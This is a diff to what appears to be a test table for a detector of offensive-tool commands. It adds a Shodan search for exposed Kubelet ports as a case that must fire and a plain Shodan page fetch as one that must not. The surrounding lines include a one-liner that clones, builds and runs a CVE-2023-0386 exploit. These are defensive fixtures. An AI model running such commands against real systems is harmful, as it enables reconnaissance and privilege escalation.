@@ -5,6 +5,9 @@ import { commandOffensiveTool, OFFENSIVE_PROGRAMS } from './offensive-tool.ts';
 
 indicatorTable(commandOffensiveTool, {
   fires: {
+    'a search engine for open hosts': script(
+      'curl -s "https://api.shodan.io/shodan/host/search?key=$K&query=port:10250"',
+    ),
     'an exploit by the number of its weakness': script(
       'git clone https://github.com/x/CVE-2023-0386 /e && make -C /e && /e/exp',
     ),
@@ -20,6 +23,7 @@ indicatorTable(commandOffensiveTool, {
     'an installation': script('apk add --no-cache curl nmap && sleep 3600'),
   },
   staysSilent: {
+    'the site of one': script('curl -s https://www.shodan.io/'),
     'an OAuth server of the same name': runs('hydra', 'serve', 'all', '--config', '/etc/hydra.yaml'),
     'a client of it, which is told where it is': runs('hydra', 'clients', 'list', '--endpoint=http://hydra-admin:4445'),
     'its clean-up': runs('hydra', 'janitor', '--tokens', '-e'),
